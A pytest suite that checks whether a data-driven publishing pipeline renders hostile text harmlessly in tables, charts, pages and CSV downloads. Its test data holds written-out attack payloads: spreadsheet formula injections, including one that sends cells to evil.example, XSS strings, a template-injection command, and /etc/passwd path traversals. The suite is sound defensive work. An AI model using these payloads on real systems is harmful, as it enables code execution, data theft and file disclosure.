"""Text from data is text: it never runs, never becomes markup, and never publishes a file."""

import csv
import html
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import urlencode

import pandas as pd
import pytest
from jinja2 import Environment, FileSystemLoader
from lxml import etree
from markdown_it import MarkdownIt

from casework import tables
from casework.checks import problems, rules, slug
from casework.data import describe
from casework.plain import is_formula, plain
from casework.site import charts, numbers
from casework.site.pages import as_name, as_text
from casework.site.tables import draw
from casework.texts.add import NotAddedError, plan
from casework.texts.fetch import NotFetchedError, review
from tests.browser import served, watch
from tests.commands import add, ran
from tests.stored import BOOK, ROOT, copied, rows_of

UP = "../" * 12
SEPARATOR = "\u2028"  # ends a line for whoever parses text, and not for a CSV

#: Commands leave a file here; nothing else makes it.
MARKER = "HOSTILE_MARKER"

#: A spreadsheet would work these out.
FORMULAS = {
    "formula that starts a program": "=cmd|' /C calc'!A0",
    "formula that sends cells away": '=HYPERLINK("https://evil.example/?"&A1)',
    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sum with a plus": "+1+cmd|' /C calc'!A0",
    "sum with a minus": "-2+3+cmd|' /C calc'!A0",
}
#: These hold what can't be seen.
UNSEEN = {
    "directive after a line separator": SEPARATOR.join(
        ["text", "", f"```{{literalinclude}} {UP}etc/passwd", "```"]
    ),
    "raw HTML after a line separator": SEPARATOR.join(
        ["text", "", "```{raw} html", "<script>ran('raw')</script>", "```"]
    ),
    "reStructuredText after a paragraph separator": "\u2029".join(
        ["text", "", "```{eval-rst}", ".. raw:: html", f"   :file: {UP}etc/passwd", "```"]
    ),
    "text that runs backwards": "grades \u202e<gnirts>\u202c of cases",
    "orders to a terminal": "grades \x1b[31mred\x1b]0;title\x07 \x9b2J of cases",
}
#: Letters like any others, as far as anybody can see.
LITERAL = {
    "script": "<script>ran('script')</script>",
    "picture that fails": "<img src=nothing.png onerror=\"ran('img')\">",
    "drawing that loads": "<svg onload=\"ran('svg')\"><title>x</title></svg>",
    "end of a script": "</script><script>ran('end')</script>",
    "end of an attribute": '" onmouseover="ran(\'over\')" style="position:fixed;inset:0',
    "end of a cell": "</td></tr></table><iframe srcdoc=\"<script>ran('frame')</script>\"></iframe>",
    "script in entities": "&lt;script&gt;ran('entities')&lt;/script&gt; &#60;b&#62;",
    "comment": "a <!-- b --> c <!-- d",
    "substitution": f"x {{{{ cycler.__init__.__globals__.os.popen('touch ${MARKER}').read() }}}} y",
    "statement": "{% for x in [1] %}x{% endfor %} and {# nothing #}",
    "download": f"{{download}}`key <{UP}etc/passwd>`",
    "include": f"```{{include}} {UP}etc/passwd",
    "literal include": f":::{{literalinclude}} {UP}etc/passwd",
    "pasted number": "{glue:text}`good_share` and {eval}`1 + 1`",
    "link that runs": "[to the report](javascript:ran('link'))",
    "address that runs": "javascript:ran('address')",
    "address that is a page": "data:text/html,<script>ran('data')</script>",
    "picture elsewhere": "![grades](https://evil.example/pixel.gif) <https://evil.example/>",
    "heading and target": "(sources)= # Sources *and* **others** $x_2$ | `a` | ~~b~~ [^1]",
    "long token": "W" * 2000,
}
HOSTILE = LITERAL | UNSEEN | FORMULAS
each = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def flat(text: str) -> str:
    """A text without what typesetting changes: quotes, dashes, dots and blanks."""
    for letters, straight in {"“”": '"', "‘’": "'"}.items():
        text = re.sub(f"[{letters}]", straight, text)
    return " ".join(text.replace("—", "---").replace("–", "--").replace("…", "...").split())


def write(folder: Path, table: str, rows: list[dict[str, str]]) -> None:
    with (folder / f"{table}.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


# --- what the form of the data lets pass ---------------------------------------------------------


def free_text(folder: Path) -> list[tuple[str, str]]:
    """Columns that may say anything, as far as their form goes."""
    return [
        (name, field["name"])
        for name, table in describe(folder).items()
        for field in table["schema"]["fields"]
        if field["type"] == "string"
        and "categories" not in field
        and field.get("constraints", {}).get("pattern") == r"\S(.*\S)?"
    ]


def refused(folder: Path, texts: list[str]) -> set[str]:
    """Those of the texts that ``check`` refuses in a cell which may say anything."""
    rows = rows_of(folder / "sources.csv")
    notes = [row["note"] for row in rows]
    for row, text in zip(rows, texts, strict=False):
        row["note"] = text
    named = set()
    while True:
        write(folder, "sources", rows)
        found = problems(folder)
        if not found:
            break
        for problem in found:
            assert (problem.file, problem.column) == ("sources.csv", "note"), str(problem)
            named.add(texts[problem.row - 2])
            rows[problem.row - 2]["note"] = notes[problem.row - 2]
    for row, note in zip(rows, notes, strict=True):
        row["note"] = note
    write(folder, "sources", rows)
    return named


def test_check_refuses_formulas_and_lets_letters_pass(data):
    assert refused(data, list(FORMULAS.values())) == set(FORMULAS.values())
    assert refused(data, list(LITERAL.values())) == set()


def test_check_refuses_a_formula_in_every_column(data):
    spoiled = set()
    for number, (table, column) in enumerate(free_text(data)):
        rows = rows_of(data / f"{table}.csv")
        # Keys and references have rules of their own, which come first.
        schema = describe(data)[table]["schema"]
        keys = {*schema["primaryKey"], *(k["fields"][0] for k in schema.get("foreignKeys", []))}
        if column in keys:
            continue
        rows[number % len(rows)][column] = list(FORMULAS.values())[number % len(FORMULAS)]
        write(data, table, rows)
        spoiled.add((f"{table}.csv", column, number % len(rows) + 2))
    assert len(spoiled) > 20
    named = {(p.file, p.column, p.row) for p in problems(data) if p.rule == "no formula"}
    assert named == spoiled


def test_numbers_and_dates_are_no_formulas():
    for cell in ["-3", "+4.5", "-1,234.5", "-12%", "--05", "--11-09", "8/13", "−4.3", "a=b"]:
        assert not is_formula(cell), cell
    for cell in [*FORMULAS.values(), "-A1", "--A1", "+", "\t=1", "\r=1", "＝1+1", "-5/8"]:
        assert is_formula(cell), cell


# --- how it becomes a page -----------------------------------------------------------------------


def test_no_page_is_a_template():
    """Jupyter Book may turn substitutions on by itself: they run what stands in double braces."""
    from jupyter_book.config import get_final_config

    config, _ = get_final_config(
        user_yaml=ROOT / "_config.yml", sourcedir=ROOT, cli_config={"latex_individualpages": False}
    )
    assert "colon_fence" in config["myst_enable_extensions"]
    assert "substitution" not in config["myst_enable_extensions"]
    assert not config.get("myst_substitutions")


class Tags(HTMLParser):
    """The tags of a piece of HTML with their attributes, and its text."""

    def __init__(self, text: str):
        super().__init__()
        self.tags, self.said = [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.said += data


#: What tables consist of.
TAGS = {"p", "div", "table", "thead", "tbody", "tr", "th", "td"}


def drawn(monkeypatch, frame: pd.DataFrame, caption: str, **looks) -> Tags:
    """A table as a notebook stores it and the site draws it."""
    stored = []
    monkeypatch.setattr(
        "casework.tables.display", lambda bundle, **_: stored.append(bundle[tables.TABLE])
    )
    tables.table(frame, caption, **looks)
    page = SimpleNamespace(srcdir=ROOT, docname="notebooks/ledger")
    return Tags(draw(stored[0], page).astext())


@each
def test_a_table_shows_text_as_text(monkeypatch, text):
    parsed = drawn(monkeypatch, pd.DataFrame({text: [text], "grade": ["good"]}), text)
    assert {tag for tag, _ in parsed.tags} <= TAGS
    allowed = {"class", "role", "aria-label", "scope"}
    assert {name for _, attributes in parsed.tags for name in attributes} <= allowed
    assert flat(parsed.said).count(flat(text)) == 3, "as caption, as heading and in a cell"


@each
def test_a_register_shows_text_as_text(monkeypatch, text):
    row = {
        text: [tables.Cell(text, text, text, text)],
        "a": [text],
        "b": [tables.Cell("c", to=text)],
    }
    looks = {"rows": [text], "filters": [text], "counts": text}
    parsed = drawn(monkeypatch, pd.DataFrame(row), text, **looks)
    controls = {"form", "label", "input", "select", "option", "button"}
    assert {tag for tag, _ in parsed.tags} <= TAGS | controls | {"small"}
    allowed = {"class", "aria-label", "scope", "id", "data-counts", "data-table", "data-filter"}
    allowed |= {"data-label", "data-order", "name", "type", "value", "role"}
    assert {name for _, attributes in parsed.tags for name in attributes} <= allowed
    assert flat(parsed.said).count(flat(text)) == 7, "twice in the filter of its column"


@pytest.mark.parametrize(
    "to",
    [
        *("javascript:ran()", " javascript:ran()", "JaVaScript:ran()", "java\nscript:ran()"),
        *("\x01javascript:ran()", "data:text/html,x", "vbscript:x", "//evil.example/", "file:///x"),
        *("https:/ /x", 'https://x" onclick="ran()', "page:evil"),
    ],
)
def test_a_cell_leads_nowhere_else(to):
    assert numbers.address(to, "notebooks/ledger") == ""


def test_a_cell_leads_to_pages_and_places():
    for to, page in {
        "https://example.org/a?b=1&c=%22": "https://example.org/a?b=1&c=%22",
        "figure:a-1": "#figure-a-1",
        "claim:a": "press-claims.html#claim-a",
        "source:hmicfrs-thames-valley-2023": "../book/sources.html#hmicfrs-thames-valley-2023",
    }.items():
        assert numbers.address(to, "notebooks/ledger") == page


@each
def test_text_in_a_page_made_from_data_is_text(text):
    """In a paragraph, a heading, a list and a table of Markdown, with all that the book allows."""
    if not text.isprintable() and text not in LITERAL.values():
        text = plain(text)  # ``check`` refuses the rest
    said = as_text(text)
    page = f"# {said}\n\n{said}\n\n- {said}\n\n| a |\n| - |\n| {said} |\n"
    parsed = Tags(MarkdownIt("commonmark").enable("table").render(page))
    assert {tag for tag, _ in parsed.tags} <= TAGS | {"h1", "ul", "li"}
    assert not [name for _, attributes in parsed.tags for name in attributes]
    assert " ".join(parsed.said.split()).count(" ".join(text.split())) == 4


@each
def test_the_finder_of_forces_shows_text_as_text(text):
    """As Sphinx draws it on the pages of the search and of what isn't there: it escapes nothing."""
    drawn_bare = Environment(loader=FileSystemLoader(ROOT / "book" / "_templates"))
    force = {"id": "kent", "name": text, "names": text, "common": text}
    made = drawn_bare.get_template("find.html").render(forces=[force], page="404", home="")
    parsed = Tags(made)
    tags = {"form", "label", "input", "button", "output", "ul", "li", "a"}
    assert {tag for tag, _ in parsed.tags} == tags
    assert flat(text) in flat(parsed.said)


def test_only_tables_of_the_folder_can_be_downloaded():
    assert "/" not in as_name(f"{UP}etc/passwd")
    assert as_name("case_gradings.csv") == "case_gradings.csv"


@each
def test_the_csv_of_a_chart_starts_no_formula(text):
    said = charts.as_csv(
        ["area", "share"], [{"area": text, "share": -0.25}, {"area": "b", "share": "-3"}]
    )
    (area, share), (_, other) = list(csv.reader(io.StringIO(said)))[1:]
    assert (share, other) == ("-0.25", "-3"), "numbers stay numbers"
    assert area[0] not in "=+-@\t\r"
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", area)


@pytest.mark.parametrize("text", [*LITERAL.values(), *FORMULAS.values()])
def test_a_chart_shows_text_as_text(text):
    """As it stands in a page: the drawing, its words, its table and what the scripts read.

    Control characters, which vl-convert can't draw, never get so far: ``check`` refuses them.
    """
    rows = [{"area": text, "share": 0.25}]
    words = dict.fromkeys(["name", "title", "subtitle", "caption", "source"], text)
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
        "title": {"text": [text], "subtitle": [text]},
        "description": text,
        "usermeta": words | {"columns": [["area", "area"], ["share", "share"]]},
        "datasets": {"rows": rows},
        "data": {"name": "rows"},
        "mark": "bar",
        "encoding": {
            "y": {"field": "area", "type": "nominal", "axis": {"labelLimit": 0}},
            "x": {"field": "share", "type": "quantitative"},
            "tooltip": {"field": "area", "type": "nominal"},
        },
    }
    place = dict.fromkeys(["number", "cell", "docname", "html_short_title", "html_baseurl"], text)
    place |= {"home": "../", "chapter": None}
    page = charts.draw_chart(
        spec,
        ROOT,
        config=SimpleNamespace(html_context=place, **place),
        **place,
    ).astext()
    drawn = Tags(page)
    tags = {tag for tag, _ in drawn.tags}
    assert not tags & {"img", "iframe", "image", "foreignobject", "b"}
    (script,) = [attributes for tag, attributes in drawn.tags if tag == "script"]
    assert script["type"] == "application/json"
    names = {name for _, attributes in drawn.tags for name in attributes}
    assert not [name for name in names if name.startswith("on")]
    leads = [attributes["href"] for tag, attributes in drawn.tags if tag == "a"]
    assert all(link.startswith(("#", "../")) for link in leads)
    (data,) = re.findall(r"<script[^>]*>(.*?)</script", page, re.S)
    assert "<" not in data
    assert json.loads(data)[0]["datasets"]["rows"] == rows


# --- saved pages ---------------------------------------------------------------------------------

GRADINGS = (
    "Inspectors examined 24 cases. Of these, 6 were good, 10 required improvement and "
    "8 were inadequate."
)


def saved(folder: Path, text: str, address: str) -> Path:
    """A page as somebody may save it, which says the text wherever a page says anything."""
    said = html.escape(text).replace("\x1b", "&#27;").replace("\x9b", "\x9b")
    page = folder / "saved.html"
    page.write_text(
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{said}</title>'
        f'<link rel="canonical" href="{html.escape(address)}">'
        f'<meta property="og:site_name" content="{said}"></head><body><h1>{said}</h1>'
        f"<h2>Contents</h2><ol><li>{said}</li></ol><h2>{said}</h2><p>{GRADINGS}</p>"
        f"<p>{said}</p><table><tr><td>{said}</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return page


def assert_plain(said: str) -> None:
    """Nothing in it that a terminal obeys, or that an eye can't see."""
    assert not re.search(r"[^\S\n\t ]|[\x00-\x08\x0b-\x1f\x7f-\x9f]", said.replace("\xa0", " "))
    assert not re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]", said)


def assert_no_formula(said: str) -> None:
    for row in csv.reader(io.StringIO(said)):
        assert not [cell for cell in row if cell[:1] in tuple("=+-@\t\r")]


@each
def test_extract_prints_text_and_no_formula(tmp_path, text):
    result = ran("extract", saved(tmp_path, text, "https://evil.example/"))
    assert "10" in result.stdout
    assert_plain(result.stdout + result.stderr)
    assert_no_formula(result.stdout)


@each
def test_the_review_of_fetched_pages_is_text_and_no_formula(tmp_path, text):
    """From the cache, so that no host is asked; and from a host whose answer says the text."""

    class Failing:
        def page(self, address):
            raise NotFetchedError(text)

    kept = "https://evil.example/kept"
    saved(tmp_path, text, kept).rename(tmp_path / f"{slug(kept)}.html")
    listed = pd.DataFrame({"id": ["a", "b"], "page": [kept, "https://evil.example/gone"]})
    found = review(listed, tmp_path, Failing())
    assert found["cases"].eq(10).any()
    assert found["outcome"].tolist()[-1] == "failed"
    said = found.to_csv(index=False)
    assert_plain(said)
    assert_no_formula(said)


@each
def test_what_add_takes_from_a_page_is_plain(tmp_path, text):
    page = saved(tmp_path, text, f"https://evil.example/{text}")
    options = {"inspection": "cheshire-2022"}
    if not re.fullmatch(r"https://\S+", plain(f"https://evil.example/{text}")):
        with pytest.raises(NotAddedError, match=r"column (address|title): "):
            plan(page, ROOT / "data", options).write(dry_run=True)
        options["address"] = "https://evil.example/"
    row = plan(page, ROOT / "data", options).tables["sources"][-1]
    assert_plain("".join(row.values()))
    if text in LITERAL.values():
        assert row["title"] == row["publisher"] == text
    assert row["address"].startswith("https://")


# --- the whole way: into a copy of the data, through the notebooks, to a reader ------------------

#: Columns that only repeat what stands in another table, or name a row of this one.
NAMES = {("areas", "id"), *((table, "figure") for table in ["case_gradings", "case_totals"])}
NAMES |= {(table, "figure") for table in ["listed", "ofsted_judgments", "recommendations"]}
NAMES |= {("timelines", "figure")}


GAP = "not applicable"
#: The rows whose cell of a column may say anything, where not all may.
ROWS = {
    ("forces", "name"): lambda row: row["id"] != "thames-valley",
    ("forces", "short_name"): lambda row: row["id"] != "thames-valley",
    ("case_gradings", "locator"): lambda row: row["figure"] == GAP,
    ("case_totals", "locator"): lambda row: row["figure"] == GAP,
    ("case_printings", "area"): lambda row: row["area"] != "all areas",
    ("figures", "subject"): lambda row: row["status"] != "no figure",
    ("figures", "remark"): lambda row: row["remark"] != GAP,
    ("other_gradings", "printed"): lambda row: row["of"] == "not seen",
}
#: Rows that are added, one a text, where what is there is held against another record: the columns
#: that say the text, and the others; ``#`` becomes the text's number.
NUMERAL = {"id": GAP, "occurrence": "1", "status": "no figure", "value": GAP, "unit": GAP}
NUMERAL |= {"qualifier": GAP, "subject": GAP, "verdict": GAP}
DAY = {"id": "hostile-#", "inspection": "thames-valley-2023", "value": "2023-11-07"}
DAY |= {"unit": "date", "qualifier": "exact", "about": "published", "base_cases": GAP}
ROWS_OF_THEIR_OWN = [
    ("figures", ["locator", "printed", "remark"], NUMERAL),
    ("press_claims", ["printed", "subject", "note"], DAY | {"allowance": "none"}),
]
#: Columns that only such rows have something of.
THERE_ALONE = {("figures", "locator"), ("figures", "printed"), ("press_claims", "printed")}


def spoil(folder: Path, texts: list[str]) -> None:
    """Put every text into every text column of every table, one a row, or several in a few rows."""
    references = {
        (name, key["fields"][0])
        for name, table in describe(folder).items()
        for key in table["schema"].get("foreignKeys", [])
    }
    for table, column in sorted(set(free_text(folder)) - references - NAMES - THERE_ALONE):
        rows = rows_of(folder / f"{table}.csv")
        chosen = [row for row in rows if ROWS.get((table, column), bool)(row)][: len(texts)]
        for at, row in enumerate(chosen):
            row[column] = " ¶ ".join(texts[at :: len(chosen)])
        assert chosen, (table, column)
        write(folder, table, rows)
    for table, columns, about in ROWS_OF_THEIR_OWN:
        rows = rows_of(folder / f"{table}.csv")
        for at, text in enumerate(texts):
            new = {name: value.replace("#", str(at)) for name, value in about.items()}
            rows.append(rows[-1] | new | dict.fromkeys(columns, text))
        write(folder, table, rows)
    # What an address may hold after its beginning; ``check`` refuses the rest.
    inspectorate = "https://hmicfrs.justiceinspectorates.gov.uk/"
    hosts = {"sources": "https://example.org/", "inspections": inspectorate}
    for table, column in [("sources", "address"), ("inspections", "page")]:
        rows = rows_of(folder / f"{table}.csv")
        for row, text in zip(reversed(rows), texts, strict=False):
            row[column] = hosts[table] + re.sub(r"[\s\"'<>`{}|\\^]", "", text)
        write(folder, table, rows)


def add_pages(data: Path, folder: Path) -> list[str]:
    """Add a saved page for each text, which says it wherever a page can; returns the titles."""
    graded = {row["inspection"] for row in rows_of(data / "case_gradings.csv")}
    visits = [
        row["id"] for row in rows_of(data / "inspections.csv") if row["kind"] == "return visit"
    ]
    visits = [visit for visit in visits if visit not in graded]
    titles = []
    for visit, (name, text) in zip(visits, HOSTILE.items(), strict=False):
        address = f"https://{visit}.example.org/{re.sub(r'[^!-~]', '', text)}"
        options = {"inspection": visit, "address": f"https://{visit}.example.org/"}
        page = saved(folder, text, address)
        refusal, before = "", rows_of(data / "sources.csv")
        try:
            add(page, data, options)
        except NotAddedError as error:
            refusal = str(error)
        assert ("would start a formula" in refusal) == (name in FORMULAS), f"{name}: {refusal}"
        if refusal:
            assert rows_of(data / "sources.csv") == before
        else:
            titles.append(rows_of(data / "sources.csv")[-1]["title"])
            assert_plain(titles[-1])
    assert len(titles) == len(LITERAL) + len(UNSEEN)
    return titles


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A book built from such data: its folder, and the texts that must be read in it."""
    home = tmp_path_factory.mktemp("hostile")
    project = home / "project"
    data = copied(project)
    added = add_pages(data, home)
    unseen = set(UNSEEN.values()) - refused(data, list(UNSEEN.values()))
    spoil(data, list(LITERAL.values()))
    rows = rows_of(data / "sources.csv")
    for at, text in enumerate(unseen):  # what the data's form doesn't refuse must do no harm
        rows.append(rows[-1] | {"id": f"unseen-{at}", "title": text, "note": text})
    write(data, "sources", rows)
    # Nothing is wrong with their form; that they differ from other records would stop a build.
    assert {problem.rule for problem in problems(data)} <= {rule.against for rule in rules(data)}
    environment = os.environ | {MARKER: str(home / "marker")}
    files = [
        f"notebooks/{name}.ipynb"
        for name in ("press-claims", "national-picture", "register", "ledger")
    ]
    book = Path(sys.executable).with_name("jupyter-book")
    for words in [
        [sys.executable, "-m", "casework", "run", "--all", *files],
        [book, "build", "--quiet", "-W", "-n", "--keep-going", "."],
    ]:
        done = subprocess.run(words, cwd=project, env=environment, capture_output=True, text=True)
        assert done.returncode == 0, (done.stdout + done.stderr)[-5000:]
    assert not (home / "marker").exists(), "a command was run"
    return project / "_build" / "html", [*added, *unseen]


@pytest.mark.slow
def test_nothing_is_published_beside_the_book(hostile):
    book, _ = hostile

    def published(folder):
        found = {file.relative_to(folder) for file in folder.rglob("*") if file.is_file()}
        return found - {Path(".buildinfo")}  # by which Sphinx knows what it need not build again

    def names(folder):
        """Files as they are called whatever is in them."""
        return {re.sub(r"\.[0-9a-f]{64}(?=\.)", "", str(file)) for file in published(folder)}

    assert names(book) == names(BOOK)
    secret = Path("/etc/passwd").read_bytes().splitlines()[0]
    assert not [file for file in published(book) if secret in (book / file).read_bytes()]


#: What drawings consist of.
DRAWN = {"svg", "g", "path", "rect", "text", "line", "defs", "clipPath", "title", "tspan"}


@pytest.mark.slow
def test_what_can_be_taken_away_is_harmless(hostile):
    book, _ = hostile
    for file in [*book.glob("charts/*.csv"), *book.glob("_downloads/*/*.csv")]:
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8"), newline="")):
            for cell in row:
                number = re.fullmatch(r"[-+]?[\d.,]+%?|--\d\d(-\d\d)?", cell)
                assert number or cell[:1] not in tuple("=+-@\t\r"), file.name
    for file in book.glob("charts/*.svg"):
        tags = {etree.QName(part).localname for part in etree.parse(file).iter(etree.Element)}
        assert tags <= DRAWN
        names = {name for part in etree.parse(file).iter(etree.Element) for name in part.attrib}
        assert not [name for name in names if name.startswith("on") or name.endswith("href")]


#: Where all of the texts must be read.
SHOWN = ["book/sources.html"]
SHOWN += [f"notebooks/{name}.html" for name in ("ledger", "press-claims", "register")]

#: What must be nowhere in a page, whatever its data say.
HARM = (ROOT / "tests" / "scripts" / "harm.js").read_text(encoding="utf-8")


def live(page) -> None:
    """Use a page as a reader does: every fold, chart and table of it."""
    page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
    for chart in page.locator(
        ".casework-chart:has(.casework-chart-spec) .casework-chart-picture"
    ).all():
        chart.scroll_into_view_if_needed()
        chart.hover()
        chart.locator("xpath=ancestor::figure[@data-live='yes']").wait_for()
        box = chart.bounding_box()
        for at in range(1, 10):
            page.mouse.move(box["x"] + box["width"] * at / 10, box["y"] + box["height"] * at / 10)
    for table in page.locator("table[data-table]").all():
        table.scroll_into_view_if_needed()
        table.locator("xpath=preceding-sibling::form").wait_for()
    for search in page.get_by_role("searchbox").all():
        if search.is_visible():
            search.fill('<img src=x onerror="')


@pytest.mark.slow
def test_a_reader_sees_text_and_nothing_runs(hostile, open_page):
    book, further = hostile
    addresses = [path.relative_to(book).as_posix() for path in book.rglob("*.html")]
    addresses = sorted(path for path in addresses if not path.startswith("_static/"))
    assert set(SHOWN) < set(addresses)
    with served(book) as site:
        context = open_page().context
        context.add_init_script("window.ran = (what) => (window.hostile ??= []).push(what)")
        for address in addresses:
            page = context.new_page()
            found = watch(page, site)
            page.on(
                "dialog", lambda dialog, found=found: (found.append("dialog"), dialog.dismiss())
            )
            page.goto(site + address)
            page.wait_for_load_state("networkidle")
            said = flat(page.evaluate("document.body.textContent"))
            if address in SHOWN:
                texts = LITERAL.values()
                if address == "book/sources.html":
                    texts = [*texts, *further]
                assert [text for text in texts if flat(text) not in said] == [], address
            live(page)
            assert page.evaluate(HARM) == [], address
            assert len(page.frames) == 1
            assert found == [], address
            page.close()
        page = context.new_page()
        found = watch(page, site)
        start = "<img src=nothing.png onerror="  # a title is found by half of it
        page.goto(f"{site}search.html?{urlencode({'q': start})}")
        titles = page.locator("#search-results li a", has_text=start)
        titles.first.wait_for()
        assert page.locator("#search-results img").count() == 0
        assert page.evaluate(HARM) == []
        assert found == []
